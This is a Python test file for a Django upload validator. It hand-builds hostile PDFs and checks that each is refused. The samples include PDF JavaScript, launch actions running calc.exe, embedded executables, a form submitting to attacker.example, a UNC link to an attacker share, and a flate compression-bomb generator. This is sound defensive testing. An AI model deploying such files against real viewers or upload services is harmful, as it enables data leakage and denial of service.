"""Hardened uploads: a corpus of hostile files made here, every one refused, and ordinary PDFs
and images accepted. Judged by parsing in the sandboxed child process, as uploads are."""

import io
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter
from weasyprint import HTML

from agreements import sandbox
from agreements.uploads import PDF_OR_IMAGE, read_upload
from portal_kit.errors import ActionRefused


def build_pdf(*extra, catalog=b"", page=b"", tail=b"") -> bytes:
    """A PDF written by hand (so each hostile part is exactly what the test says)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + b" >>",
        *extra,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\n".encode()
    out += f"startxref\n{xref}\n%%EOF\n".encode()
    return bytes(out) + tail


def stream(data: bytes, header: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), header) + data + b"\nendstream"


def flate_bomb(inflated_megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    chunk = b"\0" * (1024 * 1024)
    data = b"".join(packer.compress(chunk) for _ in range(inflated_megabytes)) + packer.flush()
    return stream(data, b"/Filter /FlateDecode")


def pypdf_pdf(pages: int = 1, password: str = "") -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if password:
        writer.encrypt(password)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def image_bytes(kind: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (0, 94, 184)).save(buffer, format=kind)
    return buffer.getvalue()


def weasyprint_pdf() -> bytes:
    png = "data:image/png;base64," + __import__("base64").b64encode(image_bytes("PNG")).decode()
    return HTML(
        string=f"<h1>Evidence</h1><p><a href='https://example.org'>policy</a></p><img src='{png}'>"
    ).write_pdf()


JS_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"
GOTO = b"<< /S /GoTo /D [3 0 R /Fit] >>"

HOSTILE = {
    "renamed executable": (b"MZ\x90\x00\x03" + b"\0" * 200, "must be a PDF"),
    "ELF binary named .pdf": (b"\x7fELF\x02\x01\x01" + b"\0" * 200, "must be a PDF"),
    "HTML before the PDF": (b"<html><script>alert(1)</script>\n" + build_pdf(), "must be a PDF"),
    "HTML inside the PDF": (
        build_pdf(tail=b"<html><body><script>alert(1)</script></body></html>\n%%EOF\n"),
        "holds HTML",
    ),
    "JavaScript": (
        build_pdf(
            b"<< /Names [(a) 5 0 R] >>", JS_ACTION, catalog=b"/Names << /JavaScript 4 0 R >>"
        ),
        "JavaScript",
    ),
    "an action on opening": (build_pdf(GOTO, catalog=b"/OpenAction 4 0 R"), "/OpenAction"),
    "automatic actions": (build_pdf(GOTO, page=b"/AA << /O 4 0 R >>"), "/AA"),
    "a launch action": (
        build_pdf(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>",
            page=b"/Annots [4 0 R]",
        ),
        "/Launch",
    ),
    "an embedded file": (
        build_pdf(
            b"<< /Names [(a.exe) 5 0 R] >>",
            b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
            stream(b"MZ\x90\x00", b"/Type /EmbeddedFile"),
            catalog=b"/Names << /EmbeddedFiles 4 0 R >>",
        ),
        "embedded",
    ),
    "an XFA form": (
        build_pdf(stream(b"<xdp:xdp/>"), catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>"),
        "/XFA",
    ),
    "rich media": (
        build_pdf(
            b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>", page=b"/Annots [4 0 R]"
        ),
        "/RichMedia",
    ),
    "a link to another file": (
        build_pdf(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
            b"/A << /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >> >>",
            page=b"/Annots [4 0 R]",
        ),
        "/GoToR",
    ),
    "a form that submits": (
        build_pdf(
            b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] "
            b"/A << /S /SubmitForm /F (https://attacker.example/) >> >>",
            page=b"/Annots [4 0 R]",
        ),
        "/SubmitForm",
    ),
    "JavaScript with hex-escaped names": (
        build_pdf(
            b"<< /Names [(a) 5 0 R] >>",
            b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
            catalog=b"/Names << /J#61v#61Script 4 0 R >>",
        ),
        "JavaScript",
    ),
    "a compression bomb": (build_pdf(flate_bomb(300), page=b"/Contents 4 0 R"), "compression bomb"),
    "a truncated PDF": (build_pdf()[:150], "incomplete"),
    "an encrypted PDF": (pypdf_pdf(password="secret"), "password-protected"),
    "garbage after a PDF header": (b"%PDF-1.7\n" + b"\x13\x37" * 500 + b"\n%%EOF\n", "not be read"),
    "a PDF without pages": (
        build_pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0"),
        "no pages",
    ),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_every_hostile_upload_is_refused_saying_why(name):
    content, reason = HOSTILE[name]
    upload = SimpleUploadedFile("evidence.pdf", content, content_type="application/pdf")

    with pytest.raises(ActionRefused) as refusal:
        read_upload(upload, what="evidence")

    assert str(refusal.value).startswith("The evidence was not accepted.")
    assert reason in str(refusal.value)


def test_an_oversized_upload_is_refused_before_it_is_parsed(settings):
    settings.UPLOAD_MAX_BYTES = 1024
    upload = SimpleUploadedFile("big.pdf", pypdf_pdf() + b"%" * 2048)
    with pytest.raises(ActionRefused, match="must be no larger than"):
        read_upload(upload, what="evidence")


ORDINARY = {
    "a blank page (pypdf)": pypdf_pdf,
    "three pages (pypdf)": lambda: pypdf_pdf(pages=3),
    "written by hand": build_pdf,
    "WeasyPrint, with an image and a link": weasyprint_pdf,
}


@pytest.mark.parametrize("name", list(ORDINARY))
def test_ordinary_pdfs_are_accepted(name):
    content = ORDINARY[name]()
    _, digest, inspection = read_upload(SimpleUploadedFile("ok.pdf", content), what="evidence")
    assert inspection.kind == "pdf" and inspection.pages >= 1
    assert len(digest) == 64


@pytest.mark.parametrize(("kind", "pillow_format"), [("png", "PNG"), ("jpeg", "JPEG")])
def test_images_are_accepted_where_a_criterion_allows_them_and_refused_elsewhere(
    kind, pillow_format
):
    content = image_bytes(pillow_format)
    _, _, inspection = read_upload(
        SimpleUploadedFile(f"shot.{kind}", content), what="evidence", allowed=PDF_OR_IMAGE
    )
    assert (inspection.kind, inspection.width, inspection.height) == (kind, 64, 48)
    with pytest.raises(ActionRefused, match="must be a PDF"):
        read_upload(SimpleUploadedFile(f"shot.{kind}", content), what="evidence")


def test_a_truncated_image_is_refused():
    content = image_bytes("PNG")[:-40]
    with pytest.raises(ActionRefused, match="could not be read as a PNG"):
        read_upload(SimpleUploadedFile("shot.png", content), what="evidence", allowed=PDF_OR_IMAGE)


def test_a_file_the_child_cannot_parse_within_its_memory_is_refused(monkeypatch):
    # With almost no memory the child dies while starting: what a hostile file would cause.
    monkeypatch.setattr(sandbox, "SANDBOX_MEMORY_BYTES", 16 * 1024 * 1024)
    with pytest.raises(ActionRefused, match="could not be checked safely"):
        read_upload(SimpleUploadedFile("ok.pdf", pypdf_pdf()), what="evidence")
